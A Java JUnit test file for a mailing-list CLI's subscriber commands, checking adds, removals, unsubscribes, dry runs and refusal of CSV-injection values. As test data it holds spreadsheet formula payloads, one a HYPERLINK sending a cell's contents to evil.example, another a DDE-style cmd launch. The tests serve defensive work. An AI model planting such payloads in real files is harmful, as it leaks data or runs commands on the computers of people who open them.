package dev.tidings.cli;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;

import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

/** {@code tidings subscribers add|remove|unsubscribe} through the real command line, on a copy of the sample list. */
class SubscribersCommandTest {
    @TempDir
    Path dir;

    @Test
    void addAppendsOneRowAndTheListStaysValid() throws IOException {
        Path list = sampleCopy();
        String before = Files.readString(list);
        CliRun run = CliRun.of("subscribers", "add", "Amelia.Watts@example.co.uk", "--name", "Watts, Amelia", "--subscribers", list.toString());
        assertEquals(0, run.exitCode(), run.all());
        assertEquals("", run.err());
        assertEquals(list + ": added Amelia.Watts@example.co.uk (subscribed); previous version: " + list + ".bak\n", run.out());
        assertEquals(before + "Amelia.Watts@example.co.uk,\"Watts, Amelia\",subscribed,,\n", Files.readString(list));
        assertEquals(before, Files.readString(dir.resolve("subscribers.csv.bak")));
        CliRun validate = CliRun.of("validate", "samples/social-learning-2.yaml", "--subscribers", list.toString());
        assertEquals(0, validate.exitCode(), validate.all());
        assertEquals(true, validate.out().contains("26 rows, 22 subscribed, 0 invalid, 0 duplicate"), validate.out());
    }

    @Test
    void aDuplicateOrInvalidAddressIsRefusedWithExitOneAndNothingWritten() throws IOException {
        Path list = sampleCopy();
        byte[] before = Files.readAllBytes(list);
        CliRun duplicate = CliRun.of("subscribers", "add", "ZOE.MARTIN@example.org", "--subscribers", list.toString());
        assertEquals(1, duplicate.exitCode());
        assertEquals("tidings: " + list + ":2: ZOE.MARTIN@example.org is already on the list (subscribed); nothing was added\n", duplicate.err());
        CliRun invalid = CliRun.of("subscribers", "add", "amelia@example", "--subscribers", list.toString());
        assertEquals(1, invalid.exitCode());
        assertEquals("tidings: email: 'amelia@example' is not a valid email address (the domain 'example' has no dot); nothing was added to " + list + "\n",
                invalid.err());
        assertArrayEquals(before, Files.readAllBytes(list));
        assertFalse(Files.exists(dir.resolve("subscribers.csv.bak")));
    }

    @Test
    void aValueASpreadsheetWouldRunAsAFormulaIsRefusedWithTheFieldNamedAndNothingWritten() throws IOException {
        Path list = sampleCopy();
        byte[] before = Files.readAllBytes(list);
        for (String name : new String[] {"=HYPERLINK(\"https://evil.example/?\"&A2,\"Click\")", "+1 club", "-Ann", "@SUM(1+1)*cmd|' /C calc'!A0",
                "\t=1+1"}) {
            CliRun run = CliRun.of("subscribers", "add", "amelia@example.org", "--name", name, "--subscribers", list.toString());
            assertEquals(1, run.exitCode(), name + ": " + run.all());
            char first = name.strip().charAt(0);
            assertEquals("tidings: name: begins with '" + first + "', which a spreadsheet takes for the start of a formula and runs when it"
                    + " opens the list (CSV injection); tidings writes no value that begins with =, +, -, @, a tab or a carriage return"
                    + " (a genuine name that begins so can be added to the list with an editor; validate will warn about it);"
                    + " nothing was added to " + list + "\n", run.err());
        }
        CliRun address = CliRun.of("subscribers", "add", "--subscribers", list.toString(), "--", "-2+3@example.org");
        assertEquals(1, address.exitCode(), address.all());
        assertTrue(address.err().startsWith("tidings: email: begins with '-', which a spreadsheet takes"), address.err());
        assertArrayEquals(before, Files.readAllBytes(list));
        assertFalse(Files.exists(dir.resolve("subscribers.csv.bak")));

        CliRun fine = CliRun.of("subscribers", "add", "amelia@example.org", "--name", "Amelia = Watts-Smith", "--subscribers", list.toString());
        assertEquals(0, fine.exitCode(), "only the first character counts: " + fine.all());
    }

    @Test
    void validateWarnsOfAFormulaAlreadyInTheListNamingLineAndColumnAndStillPasses() throws IOException {
        Path list = Files.writeString(dir.resolve("list.csv"), "email,name\nann@example.org,-Ann\n"
                + "b@example.org,\"=HYPERLINK(\"\"https://evil.example/?\"\"&A2,\"\"Click\"\")\"\nc@example.org,Cleo\n");
        CliRun run = CliRun.of("validate", "samples/social-learning-2.yaml", "--subscribers", list.toString());
        assertEquals(0, run.exitCode(), run.all());
        String warning = "which a spreadsheet takes for the start of a formula and runs when it opens the list (CSV injection);"
                + " if it is not genuine, correct or remove the row (tidings sends it as plain text either way)\n";
        assertTrue(run.out().contains(list + ":2: warning: name: begins with '-', " + warning), run.out());
        assertTrue(run.out().contains(list + ":3: warning: name: begins with '=', " + warning), run.out());
        assertTrue(run.out().contains(list + ": valid (0 errors, 2 warnings): 3 rows, 3 subscribed"), run.out());
        assertEquals(1, CliRun.of("validate", "samples/social-learning-2.yaml", "--subscribers", list.toString(), "--strict").exitCode());
    }

    @Test
    void unsubscribeChangesOneCellAndIsFineTwice() throws IOException {
        Path list = sampleCopy();
        String before = Files.readString(list);
        CliRun run = CliRun.of("subscribers", "unsubscribe", "jane.bozarth@example.org", "--subscribers", list.toString());
        assertEquals(0, run.exitCode(), run.all());
        assertEquals(list + ": unsubscribed jane.bozarth@example.org (line 3, was subscribed); previous version: " + list + ".bak\n", run.out());
        assertEquals(before.replace("jane.bozarth@example.org,Jane Bozarth,subscribed,", "jane.bozarth@example.org,Jane Bozarth,unsubscribed,"),
                Files.readString(list));
        CliRun again = CliRun.of("subscribers", "unsubscribe", "Jane.Bozarth@example.org", "--subscribers", list.toString());
        assertEquals(0, again.exitCode(), again.all());
        assertEquals(list + ": Jane.Bozarth@example.org is already unsubscribed (line 3); the list is unchanged\n", again.out());
    }

    @Test
    void removeDeletesTheRowAndAnUnknownAddressIsExitOne() throws IOException {
        Path list = sampleCopy();
        String before = Files.readString(list);
        CliRun run = CliRun.of("subscribers", "remove", "noah.smith@example.com", "--subscribers", list.toString());
        assertEquals(0, run.exitCode(), run.all());
        assertEquals(list + ": removed noah.smith@example.com (line 18); previous version: " + list + ".bak\n", run.out());
        assertEquals(before.replace("noah.smith@example.com,,subscribed,,\n", ""), Files.readString(list));

        for (String command : new String[]{"remove", "unsubscribe"}) {
            CliRun unknown = CliRun.of("subscribers", command, "nobody@example.org", "--subscribers", list.toString());
            assertEquals(1, unknown.exitCode(), command);
            assertEquals("tidings: " + list + ": nobody@example.org is not on the list (addresses are compared ignoring case); nothing was "
                    + (command.equals("remove") ? "removed" : "changed") + "\n", unknown.err());
        }
    }

    @Test
    void aDryRunWritesNothing() throws IOException {
        Path list = sampleCopy();
        byte[] before = Files.readAllBytes(list);
        assertEquals(list + ": would add new@example.org (subscribed); dry run, nothing written\n",
                CliRun.of("subscribers", "add", "new@example.org", "--subscribers", list.toString(), "--dry-run").out());
        assertEquals(list + ": would remove karl.moore@example.com (line 7); dry run, nothing written\n",
                CliRun.of("subscribers", "remove", "karl.moore@example.com", "--subscribers", list.toString(), "--dry-run").out());
        assertEquals(list + ": would unsubscribe karl.moore@example.com (line 7, was subscribed); dry run, nothing written\n",
                CliRun.of("subscribers", "unsubscribe", "karl.moore@example.com", "--subscribers", list.toString(), "--dry-run").out());
        assertArrayEquals(before, Files.readAllBytes(list));
    }

    @Test
    void withoutAListOrAnAddressItIsAUsageError() {
        CliRun noList = CliRun.of("subscribers", "add", "new@example.org");
        assertEquals(2, noList.exitCode());
        assertEquals("tidings: Missing required option: '--subscribers=LIST.csv'\nRun 'tidings help subscribers add' for usage.\n", noList.err());
        CliRun missing = CliRun.of("subscribers", "unsubscribe", "a@example.org", "--subscribers", dir.resolve("nope.csv").toString());
        assertEquals(1, missing.exitCode());
        assertEquals("tidings: " + dir.resolve("nope.csv") + ": file not found\n", missing.err());
    }

    private Path sampleCopy() throws IOException {
        return Files.write(dir.resolve("subscribers.csv"), Files.readString(SendFixture.SAMPLE_LIST).getBytes(StandardCharsets.UTF_8));
    }
}
